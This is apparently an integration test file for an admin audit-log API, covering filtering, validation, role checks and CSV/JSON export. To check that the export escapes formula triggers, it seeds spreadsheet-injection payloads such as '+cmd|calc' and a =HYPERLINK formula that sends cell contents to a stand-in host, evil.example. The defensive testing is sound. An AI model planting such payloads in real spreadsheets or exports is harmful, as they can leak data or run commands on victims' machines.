import { AuditEvent } from '../src/audit/audit-event.entity';
import { newId } from '../src/ids/new-id';
import { AdminClient, TestServer } from './harness';
import { orm, userWithRole } from './ops-fixtures';

/** RFC 4180 parser for the checks below (quoted cells, doubled quotes, newlines inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

const BASE = Date.UTC(2030, 0, 1);
const at = (minutes: number) => new Date(BASE + minutes * 60_000);

function auditRow(overrides: Partial<AuditEvent> & { createdAt: Date }): Partial<AuditEvent> {
  return {
    id: newId('aud', overrides.createdAt.getTime()),
    actorType: 'USER',
    actorId: null,
    action: 'fixture.event',
    targetType: null,
    targetId: null,
    result: 'SUCCESS',
    message: null,
    requestId: null,
    ipAddress: null,
    userAgent: null,
    metadata: {},
    ...overrides,
  };
}

describe('audit events over real HTTP', () => {
  let server: TestServer;
  let owner: AdminClient;
  let viewer: AdminClient;
  let operator: AdminClient;

  beforeAll(async () => {
    server = await new TestServer({ OPSTAGE_LOGIN_MAX_ATTEMPTS_PER_IP: '10000' }).start();
    owner = await server.owner();
    viewer = await userWithRole(server, owner, 'viewer');
    operator = await userWithRole(server, owner, 'operator');
    const em = orm(server);
    await em.insertMany(AuditEvent, [
      auditRow({ createdAt: at(0), action: 'agent.disabled', actorId: 'usr_fixture1', targetType: 'Agent', targetId: 'agt_fixture1', message: 'Disabled by admin.' }),
      auditRow({ createdAt: at(1), action: 'agent.enabled', actorId: 'usr_fixture1', targetType: 'Agent', targetId: 'agt_fixture1' }),
      auditRow({ createdAt: at(2), action: 'command.failed', actorType: 'AGENT', actorId: 'agt_fixture1', targetType: 'Command', targetId: 'cmd_fixture1', result: 'FAILURE' }),
      auditRow({ createdAt: at(3), action: 'system.agent.offline', actorType: 'SYSTEM', targetType: 'Workspace', targetId: 'wks_default', metadata: { count: 2 } }),
      auditRow({ createdAt: at(4), action: 'fixture.formula', actorId: '+cmd|calc', targetType: '@SUM(A1)', targetId: '-2+3', message: '=HYPERLINK("http://evil.example","click")', userAgent: '\tTabbed', ipAddress: '\r10.0.0.1' }),
    ] as AuditEvent[]);
  });
  afterAll(() => server.stop());

  const list = (client: AdminClient, query: string) => client.get(`/api/admin/audit-events?${query}`);

  it('lists newest first with pagination, and sorts ascending on request', async () => {
    const res = await list(viewer, 'pageSize=2');
    expect(res.status).toBe(200);
    expect(res.body.pagination).toMatchObject({ page: 1, pageSize: 2 });
    expect(res.body.pagination.total).toBeGreaterThanOrEqual(5);
    const times = res.body.data.map((e: { createdAt: string }) => Date.parse(e.createdAt));
    expect(times[0]).toBeGreaterThanOrEqual(times[1]);
    const asc = await list(viewer, 'sort=createdAt&pageSize=1');
    expect(asc.body.data[0].action).toBe('system.bootstrap.completed');
    expect(Object.keys(asc.body.data[0]).sort()).toEqual(
      ['action', 'actorId', 'actorType', 'correlationId', 'createdAt', 'id', 'ipAddress', 'message', 'metadata', 'requestId', 'result', 'targetId', 'targetType', 'userAgent'].sort(),
    );
  });

  it('filters by actor, action, action prefix, target, result, time window and text', async () => {
    const actions = async (query: string) => {
      const res = await list(viewer, `${query}&pageSize=100`);
      expect(res.status).toBe(200);
      return res.body.data.map((e: { action: string }) => e.action).sort();
    };
    expect(await actions('actorType=AGENT')).toEqual(['command.failed']);
    expect(await actions('actorId=usr_fixture1')).toEqual(['agent.disabled', 'agent.enabled']);
    expect(await actions('action=agent.enabled')).toEqual(['agent.enabled']);
    expect(await actions('action=agent')).toEqual([]);
    expect(await actions('actionPrefix=agent.')).toEqual(['agent.disabled', 'agent.enabled']);
    expect(await actions('actionPrefix=%25')).toEqual([]);
    expect(await actions('targetType=Agent&targetId=agt_fixture1')).toEqual(['agent.disabled', 'agent.enabled']);
    expect(await actions('result=FAILURE&actorType=AGENT')).toEqual(['command.failed']);
    expect(await actions(`from=${at(1).toISOString()}&to=${at(3).toISOString()}`)).toEqual(['agent.enabled', 'command.failed', 'system.agent.offline']);
    expect(await actions(`from=${at(4).toISOString()}&to=${at(4).toISOString()}`)).toEqual(['fixture.formula']);
    expect(await actions('q=Disabled%20by')).toEqual(['agent.disabled']);
  });

  it('rejects bad filters with 422 VALIDATION_FAILED', async () => {
    for (const query of [
      `from=${at(3).toISOString()}&to=${at(1).toISOString()}`,
      'from=yesterday',
      'to=2030-13-45T00:00:00Z',
      'actorType=ROBOT',
      'result=MAYBE',
      'actorId=%20%20',
      'action=%20',
      'actionPrefix=%20',
      'targetType=%20',
      'targetId=%20',
      'q=%20%20',
      `action=${'a'.repeat(161)}`,
      'sort=action',
      'page=0',
      'pageSize=101',
    ]) {
      const res = await list(viewer, query);
      expect([query, res.status, res.body?.error?.code]).toEqual([query, 422, 'VALIDATION_FAILED']);
    }
  });

  it('gets one event by id; an unknown id is 404 NOT_FOUND and a malformed one 422', async () => {
    const first = (await list(viewer, 'action=agent.disabled')).body.data[0];
    const res = await viewer.get(`/api/admin/audit-events/${first.id}`);
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual(first);
    const missing = await viewer.get('/api/admin/audit-events/aud_01ZZZZZZZZZZZZZZZZZZZZZZZZ');
    expect(missing.status).toBe(404);
    expect(missing.body.error.code).toBe('NOT_FOUND');
    expect((await viewer.get('/api/admin/audit-events/usr_01ZZZZZZZZZZZZZZZZZZZZZZZZ')).status).toBe(422);
    expect((await server.request('GET', `/api/admin/audit-events/${first.id}`)).status).toBe(401);
  });

  it('forbids the export to viewers and anonymous callers', async () => {
    const res = await viewer.get('/api/admin/audit-events/export?format=csv');
    expect(res.status).toBe(403);
    expect(res.body.error.code).toBe('FORBIDDEN');
    expect((await server.request('GET', '/api/admin/audit-events/export')).status).toBe(401);
    expect((await operator.get('/api/admin/audit-events/export?format=xml')).status).toBe(422);
    expect((await operator.get(`/api/admin/audit-events/export?from=${at(3).toISOString()}&to=${at(1).toISOString()}`)).status).toBe(422);
  });

  it('exports CSV: header, every cell quoted, login events included, as an attachment', async () => {
    const res = await operator.get('/api/admin/audit-events/export?format=csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename=opstage-audit-\d{13}\.csv$/);
    expect(res.text).toContain('session.login');
    expect(res.text.endsWith('\n')).toBe(true);
    const lines = res.text.split('\n');
    expect(lines[0]).toBe('id,createdAt,actorType,actorId,action,targetType,targetId,result,message,requestId,ipAddress,userAgent,metadata,correlationId');
    for (const line of lines.slice(1, -1)) expect(line).toMatch(/^"aud_[^"]+","/);
    const rows = parseCsv(res.text);
    expect(rows.every((r) => r.length === 14)).toBe(true);
  });

  it('escapes formula-looking cells so spreadsheets never evaluate them (incl. a login attempt named =HYPERLINK(...))', async () => {
    const evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    expect((await server.admin().login(evil, 'wrong-password')).status).toBe(401);
    const res = await operator.get('/api/admin/audit-events/export?format=csv&actionPrefix=fixture.formula');
    const [header, row] = parseCsv(res.text);
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('message')).toBe(`'=HYPERLINK("http://evil.example","click")`);
    expect(cell('actorId')).toBe("'+cmd|calc");
    expect(cell('targetType')).toBe("'@SUM(A1)");
    expect(cell('targetId')).toBe("'-2+3");
    expect(cell('userAgent')).toBe("'\tTabbed");
    expect(cell('ipAddress')).toBe("'\r10.0.0.1");
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example"",""click"")"`);

    const login = await operator.get('/api/admin/audit-events/export?format=csv&action=session.login.failed');
    const parsed = parseCsv(login.text);
    const loginRow = parsed.find((r) => r[parsed[0].indexOf('metadata')].includes('HYPERLINK'))!;
    expect(JSON.parse(loginRow[parsed[0].indexOf('metadata')])).toEqual({ username: evil });
    // No cell of the whole export starts with a formula trigger.
    const all = parseCsv((await operator.get('/api/admin/audit-events/export?format=csv')).text);
    for (const r of all) for (const c of r) expect(c).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('exports JSON as the success envelope and audits every export with its format and filters', async () => {
    const res = await operator.get('/api/admin/audit-events/export?actorType=USER');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^application\/json/);
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename=opstage-audit-\d{13}\.json$/);
    expect(res.body.success).toBe(true);
    expect(res.body.data.length).toBeGreaterThan(0);
    expect(res.body.data.every((e: { actorType: string }) => e.actorType === 'USER')).toBe(true);
    const exported = await list(viewer, 'action=audit.exported&pageSize=1');
    expect(exported.body.data[0]).toMatchObject({ actorType: 'USER', action: 'audit.exported', metadata: { format: 'json', filters: { actorType: 'USER' } } });
  });

  it('streams more than 10,000 rows without a cap, newest first, no duplicates', async () => {
    const total = 10_250;
    const em = orm(server);
    await em.transactional(async (tx) => {
      for (let start = 0; start < total; start += 1000) {
        const rows = [];
        // Many share a timestamp, so the keyset must break ties by id.
        for (let i = start; i < Math.min(total, start + 1000); i++) rows.push(auditRow({ createdAt: at(100 + Math.floor(i / 7)), action: 'bulk.row', targetId: `n${i}` }));
        await tx.insertMany(AuditEvent, rows as AuditEvent[]);
      }
    });
    const json = await operator.get('/api/admin/audit-events/export?action=bulk.row');
    expect(json.status).toBe(200);
    expect(json.headers.get('transfer-encoding')).toBe('chunked'); // streamed, not buffered with a length
    const data: Array<{ id: string; createdAt: string }> = json.body.data;
    expect(data).toHaveLength(total);
    expect(new Set(data.map((e) => e.id)).size).toBe(total);
    for (let i = 1; i < data.length; i++) expect(Date.parse(data[i - 1].createdAt)).toBeGreaterThanOrEqual(Date.parse(data[i].createdAt));
    const csv = await operator.get('/api/admin/audit-events/export?action=bulk.row&format=csv');
    expect(csv.text.trimEnd().split('\n')).toHaveLength(total + 1);
  });
});

describe('audit filters match literally', () => {
  it('actionPrefix with an underscore finds registration_token.* rows', async () => {
    const server = await new TestServer().start();
    try {
      const owner = await server.owner();
      await owner.post('/api/admin/registration-tokens', { name: 'prefix' });
      const res = await owner.get('/api/admin/audit-events?actionPrefix=registration_token.');
      expect(res.body.pagination.total).toBe(1);
      expect(res.body.data[0].action).toBe('registration_token.created');
    } finally {
      await server.stop();
    }
  });
});
